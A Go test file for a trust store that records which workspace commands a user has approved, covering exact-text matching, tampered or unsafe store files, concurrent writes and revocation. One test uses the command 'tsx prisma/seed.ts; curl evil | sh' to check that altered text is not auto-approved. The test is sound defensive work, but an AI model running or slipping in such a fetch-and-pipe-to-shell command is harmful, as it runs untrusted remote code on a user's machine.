package trust

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"

	"github.com/livepeer/naap-dev/internal/remedy"
)

var seed = Item{Kind: SeedCommand, Subject: "package.json prisma.seed", Where: "package.json:4", Text: "tsx prisma/seed.ts"}

func judge(t *testing.T, s Store, workspace string) Judge {
	t.Helper()
	j, err := NewJudge(s, workspace, Given{})
	if err != nil {
		t.Fatal(err)
	}
	return j
}

func TestWhatIsAllowedIsKnownByItsText(t *testing.T) {
	s, ws := In(t.TempDir()), t.TempDir()
	if got := judge(t, s, ws).Of(seed); got.Allowed || got.State() != "new" {
		t.Fatalf("an empty store says %+v", got)
	}
	if err := s.Allow(t.Context(), ws, seed); err != nil {
		t.Fatal(err)
	}
	if got := judge(t, s, ws).Of(seed); !got.Allowed || !strings.HasPrefix(got.By, "allowed on ") {
		t.Errorf("what was allowed is %+v", got)
	}
	moved := seed
	moved.Where = "package.json:9"
	if !judge(t, s, ws).Of(moved).Allowed {
		t.Error("the same text on another line is asked for again")
	}
	changed := seed
	changed.Text = "tsx prisma/seed.ts; curl evil | sh"
	if got := judge(t, s, ws).Of(changed); got.Allowed || got.State() != "changed" || got.Was != seed.Text {
		t.Errorf("a changed text is %+v", got)
	}
	for name, other := range map[string]Item{
		"another kind":    {Kind: ServerPrograms, Subject: seed.Subject, Text: seed.Text},
		"another subject": {Kind: seed.Kind, Subject: "apps/x/package.json prisma.seed", Text: seed.Text},
	} {
		if judge(t, s, ws).Of(other).Allowed {
			t.Errorf("%s is allowed too", name)
		}
	}
	if judge(t, s, t.TempDir()).Of(seed).Allowed {
		t.Error("another workspace is allowed the same")
	}
}

func TestNoPartOfAnItemStandsForAnother(t *testing.T) {
	a, b := Item{Kind: SQL, Subject: "a", Text: "bc"}, Item{Kind: SQL, Subject: "ab", Text: "c"}
	if a.Hash() == b.Hash() {
		t.Error("the subject's end counts as the text's beginning")
	}
}

func TestTheStoreIsItsOwnersAlone(t *testing.T) {
	state, ws := t.TempDir(), t.TempDir()
	s := In(state)
	if err := s.Allow(t.Context(), ws, seed); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(s.path(ws))
	if err != nil {
		t.Fatal(err)
	}
	if runtime.GOOS != "windows" && info.Mode().Perm() != 0o600 {
		t.Errorf("the file's mode is %v", info.Mode())
	}
	if folder, _ := os.Stat(s.dir); runtime.GOOS != "windows" && folder.Mode().Perm() != 0o700 {
		t.Errorf("the folder's mode is %v", folder.Mode())
	}
}

func TestAStoreThatOthersCouldHaveWrittenIsNotRead(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("modes are not what protects a file on Windows")
	}
	for name, spoil := range map[string]func(t *testing.T, path string){
		"group can write": func(t *testing.T, path string) { must(t, os.Chmod(path, 0o660)) },
		"all can write":   func(t *testing.T, path string) { must(t, os.Chmod(path, 0o606)) },
		"a link": func(t *testing.T, path string) {
			must(t, os.Rename(path, path+".x"))
			must(t, os.Symlink(path+".x", path))
		},
		"a folder":    func(t *testing.T, path string) { must(t, os.Remove(path)); must(t, os.Mkdir(path, 0o700)) },
		"too large":   func(t *testing.T, path string) { must(t, os.Truncate(path, maxPage+1)) },
		"half a text": func(t *testing.T, path string) { must(t, os.Truncate(path, 40)) },
		"another workspace's": func(t *testing.T, path string) {
			other := t.TempDir()
			s := Store{filepath.Dir(path)}
			must(t, s.Allow(t.Context(), other, seed))
			must(t, os.Rename(s.path(other), path))
		},
		"another user's": func(t *testing.T, path string) {
			if os.Geteuid() != 0 {
				t.Skip("only root can give a file away")
			}
			must(t, os.Chown(path, 65534, 65534))
		},
	} {
		t.Run(name, func(t *testing.T) {
			s, ws := In(t.TempDir()), t.TempDir()
			must(t, s.Allow(t.Context(), ws, seed))
			spoil(t, s.path(ws))
			j, err := NewJudge(s, ws, Given{})
			if remedy.Code(err) != "trust.store" || j.Of(seed).Allowed {
				t.Errorf("it is read: %v, %+v", err, j.Of(seed))
			}
			if !strings.Contains(remedy.Text(err), s.path(ws)) {
				t.Errorf("the error does not name the file: %s", remedy.Text(err))
			}
			if err := s.Allow(t.Context(), ws, seed); err == nil {
				t.Error("it is written over, which loses what it held")
			}
		})
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func TestNothingIsKeptInAnotherUsersFolder(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can give a folder away")
	}
	state, ws := t.TempDir(), t.TempDir()
	s := In(state)
	must(t, os.Mkdir(s.dir, 0o700))
	must(t, os.Chown(s.dir, 65534, 65534))
	t.Setenv("SUDO_UID", "65534")
	if err := s.Allow(t.Context(), ws, seed); remedy.Code(err) != "trust.store" {
		t.Errorf("root writes into it: %v", err)
	}
	if entries, _ := os.ReadDir(s.dir); len(entries) > 0 {
		t.Errorf("it left %v", entries)
	}
}

func TestTwoAtOnceLoseNothing(t *testing.T) {
	s, ws := In(t.TempDir()), t.TempDir()
	const each = 20
	var all sync.WaitGroup
	for writer := range 8 {
		all.Go(func() {
			for i := range each {
				item := Item{Kind: ServerPrograms, Subject: fmt.Sprintf("%d/%d", writer, i), Text: "x"}
				if err := s.Allow(t.Context(), ws, item); err != nil {
					t.Error(err)
				}
				if _, err := s.Read(ws); err != nil { // never sees a half-written file
					t.Error(err)
				}
			}
		})
	}
	all.Wait()
	grants, err := s.Read(ws)
	if err != nil || len(grants) != 8*each {
		t.Errorf("%d of %d are there, %v", len(grants), 8*each, err)
	}
	if left, _ := filepath.Glob(filepath.Join(s.dir, ".new-*")); len(left) > 0 {
		t.Errorf("files are left over: %v", left)
	}
}

func TestWhatWasAllowedIsTakenBack(t *testing.T) {
	s, a, b := In(t.TempDir()), t.TempDir(), t.TempDir()
	programs := Item{Kind: ServerPrograms, Subject: "h", Text: "x"}
	must(t, s.Allow(t.Context(), a, seed, programs))
	must(t, s.Allow(t.Context(), b, seed))
	gone, err := s.Forget(t.Context(), a, func(g Grant) bool { return g.Kind == ServerPrograms })
	if err != nil || len(gone) != 1 || gone[0].Item() != programs {
		t.Errorf("taken back: %v, %v", gone, err)
	}
	if j := judge(t, s, a); j.Of(programs).Allowed || !j.Of(seed).Allowed {
		t.Error("the wrong one is gone")
	}
	if _, err := s.Forget(t.Context(), a, func(Grant) bool { return true }); err != nil {
		t.Fatal(err)
	}
	if all, err := s.Workspaces(); err != nil || len(all) != 1 || all[0] != canonical(b) {
		t.Errorf("left are %v, %v", all, err)
	}
	if none, err := In(filepath.Join(t.TempDir(), "none")).Workspaces(); err != nil || none != nil {
		t.Errorf("a store that is not there has %v, %v", none, err)
	}
}

func TestACheckoutHasOneAnswerHoweverItIsReached(t *testing.T) {
	s, ws := In(t.TempDir()), t.TempDir()
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(ws, link); err != nil {
		t.Skip("no links here: ", err)
	}
	must(t, s.Allow(t.Context(), link, seed))
	if !judge(t, s, ws).Of(seed).Allowed {
		t.Error("it is asked for again by its other path")
	}
}

func TestAStoreThatNamesNoWorkspaceIsOfNone(t *testing.T) {
	s, ws := In(t.TempDir()), t.TempDir()
	if err := s.Allow(t.Context(), ws, seed); err != nil {
		t.Fatal(err)
	}
	text, err := os.ReadFile(s.path(ws))
	if err == nil {
		err = os.WriteFile(s.path(ws), []byte(strings.Replace(string(text), `"workspace"`, `"x"`, 1)), 0o600)
	}
	if err != nil {
		t.Fatal(err)
	}
	if j, err := NewJudge(s, ws, Given{}); remedy.Code(err) != "trust.store" || j.Of(seed).Allowed {
		t.Errorf("it is read: %v", err)
	}
}
